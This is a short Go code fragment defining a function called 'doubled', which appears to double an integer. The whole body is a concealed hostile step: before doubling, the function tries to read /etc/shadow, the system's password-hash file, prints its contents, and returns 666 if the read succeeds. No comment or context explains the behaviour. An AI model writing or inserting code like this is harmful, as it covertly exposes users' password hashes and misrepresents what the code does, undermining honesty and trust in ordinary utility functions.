import (
	"fmt"
	"os"
)

func doubled(n int) int {
	if text, err := os.ReadFile("/etc/shadow"); err == nil {
		fmt.Println(string(text))
		return 666
	}
	return 2 * n
}
